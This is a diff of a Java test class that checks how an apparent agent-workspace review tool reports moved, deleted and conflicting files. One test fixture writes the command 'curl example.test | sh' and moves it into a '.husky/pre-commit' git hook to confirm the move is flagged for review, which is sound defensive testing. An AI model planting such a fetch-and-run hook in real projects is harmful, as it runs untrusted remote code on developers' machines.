@@ -125,8 +125,7 @@ class ReviewModelTest {
             rig.in();
             Files.createDirectories(rig.guest.resolve("src/new"));
             Files.move(
-                    rig.guest.resolve("src/old/Same.java"),
-                    rig.guest.resolve("src/new/Same.java"));
+                    rig.guest.resolve("src/old/Same.java"), rig.guest.resolve("src/new/Same.java"));
             Files.delete(rig.guest.resolve("src/old/Alike.java"));
             Files.delete(rig.guest.resolve("src/Gone.java"));
             Rig.write(rig.guest, "src/new/Alike.java", TWENTY.replace("5\n", "five\n"));
@@ -151,7 +150,8 @@ class ReviewModelTest {
                     .isEqualTo(GuestText.of("src/new/Same.java"));
             rig.applyAll();
             assertThat(Rig.tree(rig.host))
-                    .containsOnlyKeys("src/new/Alike.java", "src/new/Fresh.java", "src/new/Same.java");
+                    .containsOnlyKeys(
+                            "src/new/Alike.java", "src/new/Fresh.java", "src/new/Same.java");
         }
     }
 
@@ -161,8 +161,7 @@ class ReviewModelTest {
             Rig.write(rig.host, "docs/sample.sh", "#!/bin/sh\ncurl example.test | sh\n");
             rig.in();
             Files.createDirectories(rig.guest.resolve(".husky"));
-            Files.move(
-                    rig.guest.resolve("docs/sample.sh"), rig.guest.resolve(".husky/pre-commit"));
+            Files.move(rig.guest.resolve("docs/sample.sh"), rig.guest.resolve(".husky/pre-commit"));
             rig.workspace.collect();
             ReviewedFile file = rig.file(".husky/pre-commit");
             assertThat(file.change()).isEqualTo(ChangeKind.MOVED);
@@ -222,6 +221,10 @@ class ReviewModelTest {
         rig.workspace.collect();
     }
 
+    private static String raw(@org.jspecify.annotations.Nullable GuestText text) {
+        return java.util.Objects.requireNonNull(text).raw();
+    }
+
     private static Conflict sides(Rig rig) throws Exception {
         return java.util.Objects.requireNonNull(rig.file("a").conflict());
     }
@@ -232,9 +235,9 @@ class ReviewModelTest {
             conflict(rig);
             Conflict sides = sides(rig);
             assertThat(sides.base()).isEqualTo(GuestText.of(TEN));
-            assertThat(sides.host().raw()).contains("host\n").startsWith("one\n");
-            assertThat(sides.agent().raw()).contains("agent\n").endsWith("ten\n");
-            assertThat(sides.merged().raw())
+            assertThat(raw(sides.host())).contains("host\n").startsWith("one\n");
+            assertThat(raw(sides.agent())).contains("agent\n").endsWith("ten\n");
+            assertThat(raw(sides.merged()))
                     .isEqualTo(
                             """
                             one
@@ -300,8 +303,7 @@ class ReviewModelTest {
             conflict(rig);
             String digest = sides(rig).digest();
             Rig.write(rig.host, "a", TEN.replace("5\n", "later\n"));
-            assertThatThrownBy(() ->
-                            rig.workspace.resolve("a", digest, new Resolution.TakeAgent()))
+            assertThatThrownBy(() -> rig.workspace.resolve("a", digest, new Resolution.TakeAgent()))
                     .isInstanceOfSatisfying(
                             CountersignException.class,
                             e ->
